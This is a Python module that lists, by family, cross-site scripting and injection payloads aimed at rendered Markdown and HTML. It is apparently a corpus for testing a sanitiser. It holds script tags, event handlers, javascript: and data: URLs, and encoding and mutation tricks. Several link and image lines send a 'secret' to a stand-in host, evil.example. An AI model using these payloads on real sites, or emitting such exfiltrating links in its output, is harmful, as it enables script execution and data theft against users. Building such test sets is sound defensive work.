"""What people try in order to run a script, or to fetch from elsewhere, through rendered text.

The families: plain markup, handlers, other namespaces, broken and nested markup, encodings,
Markdown's own links and images, and ways out of code, tables and attributes.
"""

from __future__ import annotations

MARKUP = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script/x>alert(1)</script/x>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<<script>alert(1)//<</script>",
    "<script>alert(1)",
    "</p><script>alert(1)</script><p>",
    "<style>@import'//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.example/x.swf>",
    "<form action=//evil.example><input type=submit></form>",
    "<template><script>alert(1)</script></template>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
)
HANDLERS = (
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror='alert(1)' />",
    '<img src="x:x" onerror="alert(1)">',
    "<IMG SRC=x ONERROR=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<p onmouseover=alert(1) style=position:fixed;inset:0>x</p>",
    "<a href=# onclick=alert(1)>x</a>",
    "<div hx-get=/sign-out hx-trigger=load>x</div>",
    "<div data-hx-post=/sign-out hx-on:load=alert(1)>x</div>",
)
NAMESPACES = (
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img src=x onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
)
ENCODINGS = (
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3C;img src=x onerror=alert(1)&#x3E;",
    "\\<script\\>alert(1)\\</script\\>",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "＜script＞alert(1)＜/script＞",
    "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
    "<\u2028script>alert(1)</script>",
)
LINKS = (
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](\u0001javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](//evil.example/?q=secret)",
    "[x](https://evil.example 'onmouseover=alert(1)')",
    '[x](https://evil.example "a\\"onmouseover=\\"alert(1)")',
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<https://evil.example/?q=secret>",
    "https://evil.example/?q=secret",
    "[![x](https://evil.example/p.png)](https://evil.example)",
)
IMAGES = (
    "![x](https://evil.example/p.png?q=secret)",
    "![x](//evil.example/p.png)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    '![x" onerror="alert(1)](x)',
    "![x][i]\n\n[i]: https://evil.example/p.png",
    "![<img src=x onerror=alert(1)>](x)",
)
WAYS_OUT = (
    "```html\n</code></pre><script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "```x onmouseover=alert(1)\n\n</pre><img src=x onerror=alert(1)>\n\n```",
    "~~~\n\n<script>alert(1)</script>\n\n~~~",
    "`</code><script>alert(1)</script>`",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    '| a |\n|:--" onclick="alert(1)|\n| b |',
    "- one\n\n  <script>alert(1)</script>\n\n- two",
    "1. one\n\n<img src=x onerror=alert(1)>\n\n2. two",
    "# <svg onload=alert(1)>",
    "> <iframe src=//evil.example>",
    "[1](javascript:alert(1)) and [1]",
    '[1"><img src=x onerror=alert(1)>]',
    "**<b onclick=alert(1)>x**</b>",
    "***\n<script>alert(1)</script>\n***",
)

PAYLOADS = (*MARKUP, *HANDLERS, *NAMESPACES, *ENCODINGS, *LINKS, *IMAGES, *WAYS_OUT)
